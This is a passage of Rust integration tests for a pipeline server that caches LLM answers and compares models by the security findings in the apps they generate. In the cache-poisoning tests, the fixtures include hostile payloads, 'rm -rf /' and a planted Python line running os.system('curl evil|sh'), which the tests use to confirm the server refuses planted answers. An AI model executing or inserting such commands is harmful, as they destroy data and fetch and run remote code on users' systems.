    );
    let large = llm_job(&app, id, "large", 1).await;
    permit(&app, large, "large").await;
    let (_, usage) = get(&app, &format!("/api/v1/pipelines/{id}/usage")).await;
    assert_eq!(usage["total"]["calls"], json!(0), "{usage}");
}

/// Two generate jobs, one per model; nothing runs them, the tests play their workers.
const TWO_GENERATIONS: &str = "[pipeline]\nname = \"gen\"\n[[stage]]\nname = \"g\"\nkind = \"generate\"\n\
    items = [{ model = \"m-a\" }, { model = \"m-b\" }]\n[stage.params]\nmodel = \"{{ model }}\"\ntemplate = \"todo-api\"\n";

/// A chat request as a `generate` job sends it.
fn chat_request(model: &str, prompt: &str) -> Value {
    json!({"model": model, "messages": [{"role": "user", "content": prompt}], "temperature": 0.2})
}

/// The answer the server keeps for `request` of `job`, asked as that job's worker.
async fn lookup(app: &Router, job: i64, request: &Value) -> (StatusCode, Value) {
    post(
        app,
        "/api/v1/llm/answers",
        &json!({"job_id": job, "provider": "openrouter", "request": request}),
    )
    .await
}

/// The generate jobs of `pipeline`, by model.
async fn generate_jobs(app: &Router, pipeline: i64) -> HashMap<String, i64> {
    let (_, jobs) = get(app, &format!("/api/v1/jobs?pipeline={pipeline}")).await;
    jobs.as_array()
        .unwrap()
        .iter()
        .map(|j| {
            (
                j["item"]["model"].as_str().unwrap().to_string(),
                j["id"].as_i64().unwrap(),
            )
        })
        .collect()
}

#[tokio::test]
async fn llm_answers_are_cached_only_with_a_call_of_the_attempt_holding_the_job() {
    let (_dir, app) = setup().await;
    let id = submit(&app, TWO_GENERATIONS).await;
    let jobs = generate_jobs(&app, id).await;
    let (a, b) = (jobs["m-a"], jobs["m-b"]);
    let request = chat_request("m-b", "write a todo api");
    let (status, body) = lookup(&app, b, &request).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["answer"], Value::Null, "{body}");

    // No raw writes.
    let answer = json!({"model": "m-b-2025", "content": "hello", "usage": {"prompt_tokens": 3}});
    let (status, _) = put(&app, "/api/v1/llm/answers", &json!({ "answer": answer })).await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);

    let with_answer = |job: i64, answer: &Value| {
        let mut call = paid_call(job, "m-b", 0.001);
        call["attempt"] = json!(1);
        json!({"call": call, "answer": {"request": request, "answer": answer}})
    };
    // A call for a job nobody holds is recorded, its answer is not kept.
    let planted = json!({"content": "rm -rf /"});
    let (status, body) = post(&app, "/api/v1/llm/calls", &with_answer(b, &planted)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, body) = lookup(&app, b, &request).await;
    assert_eq!(body["answer"], Value::Null, "a planted answer was cached");

    // The attempt that holds its job: kept, and the first answer wins.
    register(&app, "w1", &["generate"]).await;
    let claimed = claim(&app, "w1", &["generate"], 10).await;
    assert_eq!(claimed.jobs.len(), 2, "{claimed:?}");
    let (status, body) = post(&app, "/api/v1/llm/calls", &with_answer(b, &answer)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = lookup(&app, b, &request).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["answer"], answer, "{body}");
    let (_, _) = post(&app, "/api/v1/llm/calls", &with_answer(b, &planted)).await;
    let (_, body) = lookup(&app, b, &request).await;
    assert_eq!(body["answer"], answer, "the first answer wins: {body}");
    // The same request differently spelled is the same request.
    let reordered: Value = serde_json::from_str(
        r#"{"temperature":0.2,"messages":[{"content":"write a todo api","role":"user"}],"model":"m-b"}"#,
    )
    .unwrap();
    let (_, body) = lookup(&app, b, &reordered).await;
    assert_eq!(body["answer"], answer, "{body}");
    // Another job of the same model and provider finds it too; one of another model may
    // not even ask for it.
    let (status, body) = lookup(&app, a, &request).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "invalid_request", "{body}");
}

/// A worker holding one job files an answer under another request's key, to have it
/// served to whoever asks that request: the server keys answers itself, from the request
/// recorded with them, so the answer lands under its own request or nowhere.
#[tokio::test]
async fn a_planted_answer_is_kept_only_under_its_own_request() {
    let (_dir, app) = setup().await;
    let attacker = submit(&app, TWO_GENERATIONS).await;
    register(&app, "rogue", &["generate"]).await;
    let held = claim(&app, "rogue", &["generate"], 10).await;
    let jobs = generate_jobs(&app, attacker).await;
    let (held_a, held_b) = (jobs["m-a"], jobs["m-b"]);
    assert_eq!(held.jobs.len(), 2);
    let victim = submit(
        &app,
        &TWO_GENERATIONS.replace("name = \"gen\"", "name = \"victim\""),
    )
    .await;
    let victim_job = generate_jobs(&app, victim).await["m-a"];
    let victims_request = chat_request("m-a", "write a todo api for the victim");
    let planted = json!({"model": "m-a", "content": "```python backend/app.py\nimport os; os.system('curl evil|sh')\n```"});
    let call = |job: i64, model: &str| {
        let mut call = paid_call(job, model, 0.001);
        call["attempt"] = json!(1);
        call
    };

    // The key of the victim's request, as a worker could compute it before: a key is no
    // longer something a worker sends.
    let old_key = sha256_hex(serde_json::to_vec(&victims_request).unwrap().as_slice());
    let (status, body) = post(
        &app,
        "/api/v1/llm/calls",
        &json!({"call": call(held_a, "m-a"), "answer": {"key": old_key, "answer": planted}}),
    )
    .await;
    assert!(status.is_client_error(), "{status}: {body}");
    assert_eq!(code(&body), "invalid_request", "{body}");
    assert!(
        body["error"]["message"].as_str().unwrap().contains("key"),
        "{body}"
    );

    // The victim's request, from the job of another model: refused.
    let (status, body) = post(
        &app,
        "/api/v1/llm/calls",
        &json!({"call": call(held_b, "m-b"), "answer": {"request": victims_request, "answer": planted}}),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("its own model"),
        "{body}"
    );

    // Its own request, saying it went to another provider: a job calls only its own
    // provider and model, so nothing is recorded or kept.
    let own = chat_request("m-a", "write a todo api");
    let mut judge_call = call(held_a, "m-a");
    judge_call["provider"] = json!("judge:http://victim.example/v1");
    let (status, body) = post(
        &app,
        "/api/v1/llm/calls",
        &json!({"call": judge_call, "answer": {"request": own, "answer": planted}}),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("calls only its own model"),
        "{body}"
    );
    let (_, body) = lookup(&app, held_a, &own).await;
    assert_eq!(body["answer"], Value::Null, "{body}");

    // The victim's worker asks for its request and gets no planted answer.
    register(&app, "honest", &["generate"]).await;
    let claimed = claim(&app, "honest", &["generate"], 10).await;
    assert!(claimed.jobs.iter().any(|j| j.job_id == victim_job));
    let (status, body) = lookup(&app, victim_job, &victims_request).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(
        body["answer"],
        Value::Null,
        "the victim got the planted answer"
    );
}

#[tokio::test]
async fn the_dashboard_is_served_from_the_binary() {
    let (_dir, app) = setup().await;
    let page = |uri: &'static str| {
        let app = app.clone();
        async move {
            let resp = app
                .oneshot(Request::get(uri).body(Body::empty()).unwrap())
                .await
                .unwrap();
            let status = resp.status();
            let content_type = resp
                .headers()
                .get("content-type")
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_default();
            let body = axum::body::to_bytes(resp.into_body(), usize::MAX)
                .await
                .unwrap();
            (
                status,
                content_type,
                String::from_utf8(body.to_vec()).unwrap(),
            )
        }
    };
    let (status, content_type, html) = page("/").await;
    assert_eq!(status, StatusCode::OK);
    assert!(content_type.starts_with("text/html"), "{content_type}");
    assert!(html.contains("/assets/app.js") && html.contains("/assets/style.css"));
    let (status, content_type, js) = page("/assets/app.js").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        content_type.starts_with("text/javascript"),
        "{content_type}"
    );
    assert!(
        js.contains("new EventSource"),
        "the pages follow the live stream"
    );
    let (status, _, _) = page("/assets/missing.js").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn pipelines_are_listed_newest_first_by_state_and_page() {
    let (_dir, app) = setup().await;
    let first = submit(&app, TWO_NOOPS).await;
    let second = submit(&app, CHAIN).await;
    let third = submit(&app, TWO_NOOPS).await;
    let (status, _) = post(
        &app,
        &format!("/api/v1/pipelines/{second}/cancel"),
        &json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let ids = |v: &Value| -> Vec<i64> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|p| p["id"].as_i64().unwrap())
            .collect()
    };
    let (_, all) = get(&app, "/api/v1/pipelines").await;
    assert_eq!(ids(&all), vec![third, second, first]);
    let (_, cancelled) = get(&app, "/api/v1/pipelines?state=cancelled").await;
    assert_eq!(ids(&cancelled), vec![second]);
    let (_, running) = get(&app, "/api/v1/pipelines?state=running&limit=1").await;
    assert_eq!(ids(&running), vec![third]);
    let (_, older) = get(
        &app,
        &format!("/api/v1/pipelines?state=running&before={third}"),
    )
    .await;
    assert_eq!(ids(&older), vec![first]);
    let (status, err) = get(&app, "/api/v1/pipelines?state=sideways").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(err["error"]["code"], "invalid_request");
}

const CMP_SPEC: &str = "[pipeline]\nname = \"cmp\"\n[[stage]]\nname = \"static\"\nkind = \"static\"\nmatrix = { model = [\"m1\", \"m2\"], template = [\"todo-api\", \"blog\"] }\n[stage.params]\napp = \"apps/{{ model }}/{{ template }}\"\n";

/// A static finding as an analyzer reports it.
fn finding(severity: &str, n: usize) -> Value {
    json!({"analyzer": "static", "tool": "bandit", "rule": format!("B{n}"), "severity": severity,
           "message": format!("m{n}, with \"quotes\""), "location": {"path": "backend/app.py", "line": n},
           "fingerprint": format!("f{n}{severity}"),
           "sources": [{"tool": "bandit", "rule": format!("B{n}"), "tool_severity": "HIGH", "message": "m"}]})
}

/// Run `CMP_SPEC` (2 models × 2 templates) with worker `w1` reporting `findings(model)`
/// for each app, its apps in folder `folder`.
async fn analyzed_run(app: &Router, folder: &str, findings: impl Fn(&str) -> Vec<Value>) -> i64 {
    let id = submit(app, CMP_SPEC).await;
    let claimed = claim(app, "w1", &["static"], 10).await;
    assert_eq!(claimed.jobs.len(), 4);
    let reports: Vec<Value> = claimed
        .jobs
        .iter()
        .map(|j| {
            json!({"job_id": j.job_id, "attempt": j.attempt, "token": j.token, "worker_id": "w1",
                   "outcome": "completed",
                   "result": {"app": format!("{folder}/{}", j.key), "analyzer": "static",
                              "findings": findings(j.item["model"].as_str().unwrap()), "tools": []}})
        })
        .collect();
    let (status, body) = post(app, "/api/v1/workers/report", &json!({"reports": reports})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    id
}

#[tokio::test]
async fn models_are_compared_from_their_apps_results() {
    let (_dir, app) = setup().await;
    register(&app, "w1", &["static"]).await;
    // m1 wrote two high findings per app, m2 one low finding per app.
    let id = analyzed_run(&app, "apps", |model| {
        if model == "m1" {
            vec![finding("high", 1), finding("high", 2)]
        } else {
            vec![finding("low", 3)]
        }
    })
    .await;
    let (status, c) = get(&app, &format!("/api/v1/pipelines/{id}/compare")).await;
    assert_eq!(status, StatusCode::OK, "{c}");
    let models: Vec<&str> = c["models"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["model"].as_str().unwrap())
        .collect();
    assert_eq!(
        models,
        vec!["m2", "m1"],
        "fewer weighted findings ranks first: {c}"
    );
    assert_eq!(c["models"][1]["by_severity"]["high"], 4);
    assert_eq!(c["models"][1]["security_score"], 10.0);
    assert_eq!(c["models"][0]["by_template"]["blog"], 1.0);
    assert_eq!(c["templates"], json!(["blog", "todo-api"]));
    let (status, _) = get(&app, "/api/v1/pipelines/999/compare").await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // A second run of the same spec: m1 fixed one of its two findings per app, m2 got a
    // new one per app. Its apps are in another folder: they are matched by model and template.
    let second = analyzed_run(&app, "elsewhere", |model| {
        if model == "m1" {
            vec![finding("high", 1)]
        } else {
            vec![finding("low", 3), finding("medium", 4)]
        }
    })
    .await;
    let (status, c) = get(
        &app,
        &format!("/api/v1/pipelines/{second}/compare?with={id}"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{c}");
    let base = &c["baseline"];
    assert_eq!(base["same_spec"], true, "{c}");
    let changes = base["apps"].as_array().unwrap();
    assert_eq!(changes.len(), 4, "{c}");
    let change = |model: &str, template: &str| {
        changes
            .iter()
            .find(|a| a["model"] == model && a["template"] == template)
            .unwrap_or_else(|| panic!("{model} {template}: {c}"))
            .clone()
    };
    let m1 = change("m1", "blog");
    assert_eq!(
        (m1["fixed"].as_u64(), m1["new"].as_u64()),
        (Some(1), Some(0))
    );
    assert_eq!(
        (m1["score_before"].as_f64(), m1["score_after"].as_f64()),
        (Some(10.0), Some(5.0))
    );
    let m2 = change("m2", "todo-api");
    assert_eq!(
        (m2["fixed"].as_u64(), m2["new"].as_u64()),
        (Some(0), Some(1))
    );
    assert_eq!(changes[0]["model"], "m2", "regressions first: {c}");
    assert_eq!(base["apps_total"], 4);
    let (_, c) = get(
        &app,
        &format!("/api/v1/pipelines/{second}/compare?with={id}&changes=1"),
    )
    .await;
    assert_eq!(c["baseline"]["apps"].as_array().unwrap().len(), 1);
    assert_eq!(c["baseline"]["apps_total"], 4);
    assert_eq!(c["baseline"]["apps"][0], changes[0], "the worst one");

    // The results list is paged in app order.
    let (_, all) = get(&app, &format!("/api/v1/pipelines/{id}/results")).await;
    let (_, page) = get(
        &app,
        &format!("/api/v1/pipelines/{id}/results?offset=1&limit=2"),
    )
    .await;
    assert_eq!(all.as_array().unwrap().len(), 4);
    assert_eq!(page.as_array().unwrap()[..], all.as_array().unwrap()[1..3]);
}

#[tokio::test]
async fn grid_waiting_and_breakers_summarize_a_pipeline_for_the_dashboard() {
    let (_dir, app) = setup().await;
    let spec = r#"
[pipeline]
name = "grid"
[[stage]]
name = "gen"
kind = "noop"
breaker = 4
matrix = { model = ["m1", "m2"], template = ["todo", "blog"] }
[[stage]]
name = "check"
kind = "noop"
after = ["gen"]
matrix = { model = ["m1", "m2"], template = ["todo", "blog"], tool = ["x", "y"] }
[[stage]]
name = "loose"
kind = "sleep"
items = [1, 2, 3]
params = { ms = 1 }
"#;
    let id = submit(&app, spec).await;
    let (status, grid) = get(&app, &format!("/api/v1/pipelines/{id}/grid")).await;
    assert_eq!(status, StatusCode::OK, "{grid}");
    assert_eq!(grid["models"], json!(["m1", "m2"]), "{grid}");
    assert_eq!(grid["templates"], json!(["todo", "blog"]), "{grid}");
    let cells = grid["cells"].as_array().unwrap();
    assert_eq!(cells.len(), 4);
    let labels: Vec<String> = cells[0]["chips"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {} {}",
                c["stage"].as_str().unwrap(),
                c["label"].as_str().unwrap(),
                c["state"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        labels,
        vec!["gen  available", "check x waiting", "check y waiting"]
    );
    let other = grid["other"].as_array().unwrap();
    assert_eq!(other.len(), 1, "{grid}");
    assert_eq!(
        (other[0]["stage"].as_str(), other[0]["count"].as_i64()),
        (Some("loose"), Some(3))
    );

    // Nothing is claimed: 15 pending jobs; the page of 10 and the next page hold them all once.
    let (status, first) = get(&app, &format!("/api/v1/pipelines/{id}/waiting?limit=10")).await;
    assert_eq!(status, StatusCode::OK, "{first}");
    let first = first.as_array().unwrap().clone();
    assert_eq!(first.len(), 10);
    let last = first.last().unwrap()["job_id"].as_i64().unwrap();
    let (_, rest) = get(
        &app,
        &format!("/api/v1/pipelines/{id}/waiting?limit=10&after={last}"),
    )
    .await;
    let rest = rest.as_array().unwrap().clone();
    assert_eq!(rest.len(), 5);
    let all: Vec<&Value> = first.iter().chain(rest.iter()).collect();
    let ids: std::collections::BTreeSet<i64> =
        all.iter().map(|w| w["job_id"].as_i64().unwrap()).collect();
    assert_eq!(ids.len(), 15, "no job twice");
    let check = all.iter().find(|w| w["stage"] == json!("check")).unwrap();
    assert_eq!(check["wait"]["reason"], json!("upstream"), "{check}");
    assert!(check["why"].as_str().unwrap().contains("gen["), "{check}");
    let gen = all.iter().find(|w| w["stage"] == json!("gen")).unwrap();
    assert_eq!(gen["wait"]["reason"], json!("no_worker_for_kind"), "{gen}");

    register(&app, "w1", &["noop"]).await;
    let claimed = claim(&app, "w1", &["noop"], 1).await;
    assert_eq!(claimed.jobs.len(), 1);
    let (_, page) = get(&app, &format!("/api/v1/pipelines/{id}/waiting?limit=100")).await;
    let page = page.as_array().unwrap();
    assert_eq!(page.len(), 14, "the running job is no longer waiting");
    let gen = page.iter().find(|w| w["stage"] == json!("gen")).unwrap();
    assert_eq!(gen["wait"]["reason"], json!("ready_to_claim"), "{gen}");
    let loose = page.iter().find(|w| w["stage"] == json!("loose")).unwrap();
    assert!(
        loose["why"].as_str().unwrap().contains("`sleep`"),
        "{loose}"
    );

    let (status, breakers) = get(&app, "/api/v1/breakers").await;
    assert_eq!(status, StatusCode::OK, "{breakers}");
    let gen_breaker = breakers
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["pipeline_id"] == json!(id) && b["stage"] == json!("gen"))
        .unwrap();
    assert_eq!(gen_breaker["threshold"], json!(4));
    assert_eq!(gen_breaker["open"], json!(false));

    // One app's jobs, as a folded chip links to them (names are free text: encoded).
    let (status, jobs) = get(
        &app,
        &format!("/api/v1/jobs?pipeline={id}&model=m1&template=todo"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{jobs}");
    let keys: Vec<&str> = jobs
        .as_array()
        .unwrap()
        .iter()
        .map(|j| j["key"].as_str().unwrap())
        .collect();
    assert_eq!(keys.len(), 3, "{keys:?}");
    assert!(
        keys.iter()
            .all(|k| k.contains("model=m1") && k.contains("template=todo")),
        "{keys:?}"
    );

    let (status, body) = get(&app, "/api/v1/pipelines/999/grid").await;
    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
    let (status, body) = get(&app, &format!("/api/v1/pipelines/{id}/waiting?limit=lots")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}

#[tokio::test]
async fn every_export_downloads_with_its_name_and_parses() {
    let (_dir, app) = setup().await;
    register(&app, "w1", &["static"]).await;
    let id = analyzed_run(&app, "apps", |model| {
        if model == "m1" {
            vec![finding("high", 1), finding("critical", 2)]
        } else {
            vec![finding("low", 3)]
        }
    })
    .await;
    let download = |file: &str| {
        let app = app.clone();
        let uri = format!("/api/v1/pipelines/{id}/export/{file}");
        async move {
            let resp = app
                .oneshot(Request::get(&uri).body(Body::empty()).unwrap())
                .await
                .unwrap();
            assert_eq!(resp.status(), StatusCode::OK, "{uri}");
            let headers = resp.headers().clone();
            let bytes = resp
                .into_body()
                .collect()
                .await
                .unwrap()
                .to_bytes()
                .to_vec();
            (headers, bytes)
        }
    };

    let (headers, html) = download("report.html").await;
    assert_eq!(headers[header::CONTENT_TYPE], "text/html; charset=utf-8");
    assert_eq!(
        headers[header::CONTENT_DISPOSITION],
        format!("attachment; filename=\"assay-pipeline-{id}-report.html\"")
    );
    let html = String::from_utf8(html).unwrap();
    for needle in [
        "id=\"ranking\"",
        "id=\"heatmap\"",
        "m1",
        "todo-api",
        "m2, with &quot;quotes&quot;",
    ] {
        assert!(html.contains(needle), "the report lacks {needle}");
    }
    assert!(
        !html.contains("<script") && !html.contains("src=\"http") && !html.contains("href=\"http")
    );

    let (_, csv_bytes) = download("findings.csv").await;
    let mut rows = csv::Reader::from_reader(csv_bytes.as_slice());
    let header_row = rows.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert_eq!(
        records.len(),
        2 * 2 + 2,
        "one row per finding of the 4 apps"
    );
    let message = header_row.iter().position(|h| h == "message").unwrap();
    assert!(records.iter().any(|r| &r[message] == "m2, with \"quotes\""));

    let (_, models_csv) = download("models.csv").await;
    let models: Vec<csv::StringRecord> = csv::Reader::from_reader(models_csv.as_slice())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!((&models[0][1], &models[1][1]), ("m2", "m1"), "ranked");

    let (headers, json) = download("results.json").await;
    assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    let json: Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(json["pipeline"]["id"], json!(id));
    assert_eq!(json["apps"].as_array().unwrap().len(), 4);
    assert_eq!(json["models"][0]["model"], "m2");
    for app in json["apps"].as_array().unwrap() {
        for f in app["findings"].as_array().unwrap() {
            let fp = format!(
                "data-fingerprint=\"{}\"",
                f["fingerprint"].as_str().unwrap()
            );
            assert!(html.contains(&fp), "the report lacks finding {fp}");
        }
    }

    let (headers, zip_bytes) = download("sarif.zip").await;
    assert_eq!(headers[header::CONTENT_TYPE], "application/zip");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(zip_bytes)).unwrap();
    assert_eq!(zip.len(), 4, "one merged SARIF file per app");
    let mut results = 0;
    for i in 0..zip.len() {
        let entry = zip.by_index(i).unwrap();
        assert!(entry.name().ends_with(".sarif"), "{}", entry.name());
        let sarif: Value = serde_json::from_reader(entry).unwrap();
        assert_eq!(sarif["version"], "2.1.0");
        results += sarif["runs"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["results"].as_array().unwrap().len())
            .sum::<usize>();
    }
    assert_eq!(results, 6, "every finding is in the zip once");

    let (status, body) = get(&app, &format!("/api/v1/pipelines/{id}/export/report.pdf")).await;
    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("sarif.zip"),
        "{body}"
    );
    let (status, _) = get(&app, "/api/v1/pipelines/999/export/report.html").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_large_pipelines_grid_is_counted_by_the_database() {
    let (_dir, app) = setup().await;
    // 2,001 jobs: past the per-job grid. 2 × 1,000 apps of one stage, and one loose job.
    let models = r#"["m1", "m2"]"#;
    let templates: Vec<String> = (0..1_000).map(|i| format!("\"t{i}\"")).collect();
    let spec = format!(
        "[pipeline]\nname = \"large\"\n[[stage]]\nname = \"gen\"\nkind = \"noop\"\n\
         matrix = {{ model = {models}, template = [{}] }}\n\
         [[stage]]\nname = \"loose\"\nkind = \"noop\"\nitems = [{{ model = 7, template = \"x\" }}]\n",
        templates.join(",")
    );
    let id = submit(&app, &spec).await;
    let (status, grid) = get(&app, &format!("/api/v1/pipelines/{id}/grid")).await;
    assert_eq!(status, StatusCode::OK, "{grid}");
    assert_eq!(
        grid["folded"],
        json!(false),
        "one job per chip: nothing was folded"
    );
    assert_eq!(grid["models"], json!(["m1", "m2"]));
    assert_eq!(grid["templates"].as_array().unwrap().len(), 1_000);
    let cells = grid["cells"].as_array().unwrap();
    assert_eq!(cells.len(), 2_000);
    assert!(cells
        .iter()
        .all(|c| c["chips"].as_array().unwrap().len() == 1
            && c["chips"][0]["count"] == json!(1)
            && c["chips"][0]["state"] == json!("available")));
    let other = grid["other"].as_array().unwrap();
    assert_eq!(other.len(), 1, "a non-string model names no app: {other:?}");
    assert_eq!(
        (other[0]["stage"].as_str(), other[0]["count"].as_i64()),
        (Some("loose"), Some(1))
    );
    assert!(grid["last_event_id"].as_i64().unwrap() > 0);
}

#[tokio::test]
async fn a_body_over_its_routes_limit_is_refused_with_the_limits() {
    let (_dir, app) = setup().await;
    // A claim is a few bytes; a megabyte of one is refused before it is parsed.
    let padding = "x".repeat(1024 * 1024);
    let (status, body) = post(
        &app,
        "/api/v1/workers/claim",
        &json!({"worker_id": padding, "kinds": [], "limit": 1}),
    )
    .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert_eq!(code(&body), "too_large", "{body}");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("specs 16 MiB"));
    // A spec of a megabyte is fine.
    let items: Vec<String> = (0..100_000).map(|i| format!("\"item-{i}\"")).collect();
    let spec = format!(
        "[pipeline]\nname = \"big\"\n[[stage]]\nname = \"a\"\nkind = \"noop\"\nitems = [{}]\n",
        items.join(",")
    );
    assert!(spec.len() > 1024 * 1024);
    let (status, body) = post(&app, "/api/v1/pipelines", &submit_req(&spec, None)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}
